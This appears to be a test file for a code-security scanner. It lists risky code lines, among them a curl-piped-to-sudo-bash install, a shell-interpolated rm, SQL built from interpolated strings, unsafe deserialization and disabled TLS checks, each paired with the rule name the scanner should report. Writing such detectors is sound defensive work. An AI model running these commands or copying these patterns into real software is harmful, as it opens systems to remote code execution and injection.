import { expect, test } from "vitest"
import { risksIn } from "./security.ts"

type Language = Parameters<typeof risksIn>[0]["language"]

const RISKY: readonly (readonly [Language, string, string])[] = [
  ["typescript", "const it = eval(text)", "dynamic-code"],
  ["typescript", "execSync(`rm ${name}`)", "shell-command"],
  ["typescript", "spawn(a, b, { shell: true })", "shell-command"],
  ["javascript", "https.request({ rejectUnauthorized: false })", "tls-off"],
  ["tsx", "<p dangerouslySetInnerHTML={it} />", "raw-markup"],
  ["typescript", "db.query(`SELECT * FROM t WHERE id = ${id}`)", "sql-text"],
  ["python", 'cursor.execute(f"SELECT * FROM t WHERE id = {id}")', "sql-text"],
  ["python", "subprocess.run(line, shell=True)", "shell-command"],
  ["python", "pickle.loads(body)", "unsafe-parsing"],
  ["python", "yaml.load(text)", "unsafe-parsing"],
  ["go", "tls.Config{InsecureSkipVerify: true}", "tls-off"],
  ["bash", "curl https://host.invalid/x | sudo bash", "piped-install"],
  ["php", "$it = unserialize($_GET['x']);", "unsafe-parsing"],
  ["javascript", 'createHash("md5")', "weak-hash"],
]

test.each(RISKY)("[REPORT-5] %s: %s is %s", (language, line, rule) => {
  const file = { path: "src/a", language, fileClass: "source" } as const
  expect(risksIn(file, `first\n${line}\n`)).toMatchObject([{ rule, line: 2, path: "src/a" }])
})

const HARMLESS: readonly (readonly [Language, string])[] = [
  ["typescript", "// eval(text) is never used"],
  ["typescript", "const result = pattern.exec(text)"],
  ["typescript", 'db.query("SELECT * FROM t WHERE id = ?", id)'],
  ["typescript", "evaluation(text)"],
  ["typescript", "await tx.all`SELECT * FROM t WHERE id = ${id}`"],
  ["python", "yaml.load(text, Loader=yaml.SafeLoader)"],
  ["go", "eval(x)"],
]

test.each(HARMLESS)("[REPORT-5] %s: %s is no finding", (language, line) => {
  expect(risksIn({ path: "src/a", language, fileClass: "source" }, line)).toEqual([])
})

test("[REPORT-5] risky calls in tests are no finding", () => {
  const file = { path: "a.test.ts", language: "typescript", fileClass: "test" } as const
  expect(risksIn(file, "eval(text)")).toEqual([])
})
